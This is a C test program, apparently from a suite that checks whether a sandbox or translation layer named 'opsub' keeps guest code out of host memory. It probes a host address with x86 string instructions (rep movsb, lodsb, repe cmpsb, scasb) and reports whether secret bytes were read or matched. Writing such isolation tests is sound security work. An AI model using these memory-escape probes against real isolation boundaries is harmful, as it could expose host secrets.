// Attack: read host memory with string instructions that take their address
// from rsi/rdi: rep movsb (copy), lodsb (load), and the comparisons repe
// cmpsb and scasb as oracles against the expected bytes.
// Natively: the secret page is copied/loaded/matched.
// Under opsub: string instructions get a 32-bit address size (esi/edi).
// variants: movsb lodsb cmpsb scasb
// stdin: hostaddr
#include "attack.h"

int main(int argc, char **argv)
{
	const char *v = variant(argc, argv);
	get_targets();
	uint8_t buf[32];
	memset(buf, 0, sizeof(buf));
	if (!strcmp(v, "movsb")) {
		void *d = buf, *s = (void *)(uintptr_t)T.data;
		size_t n = sizeof(buf);
		__asm__ volatile("rep movsb" : "+D"(d), "+S"(s), "+c"(n) : : "memory");
		report_read("rep movsb", buf, sizeof(buf));
	} else if (!strcmp(v, "lodsb")) {
		const void *s = (void *)(uintptr_t)T.data;
		for (int i = 0; i < 32; i++) {
			uint8_t c;
			__asm__ volatile("lodsb" : "=a"(c), "+S"(s) : : "memory");
			buf[i] = c;
		}
		report_read("lodsb", buf, sizeof(buf));
	} else if (!strcmp(v, "cmpsb")) {
		const void *s = (void *)(uintptr_t)T.data, *d = secret_hdr;
		size_t n = sizeof(secret_hdr);
		uint8_t eq;
		__asm__ volatile("repe cmpsb\n sete %0" : "=r"(eq), "+S"(s), "+D"(d), "+c"(n) : : "memory", "cc");
		if (eq && n == 0)
			escaped("repe cmpsb matched all %zu host bytes at %#lx", sizeof(secret_hdr), T.data);
		else
			note("repe cmpsb mismatch, %zu bytes left", n);
	} else {
		unsigned match = 0;
		for (unsigned i = 0; i < sizeof(secret_hdr); i++) {
			const void *d = (void *)(uintptr_t)(T.data + i);
			uint8_t eq;
			__asm__ volatile("scasb\n sete %0" : "=r"(eq), "+D"(d) : "a"(secret_hdr[i]) : "memory", "cc");
			match += eq;
		}
		if (match == sizeof(secret_hdr))
			escaped("scasb matched all %u host bytes at %#lx", match, T.data);
		else
			note("scasb matched %u of %zu bytes", match, sizeof(secret_hdr));
	}
	return 0;
}
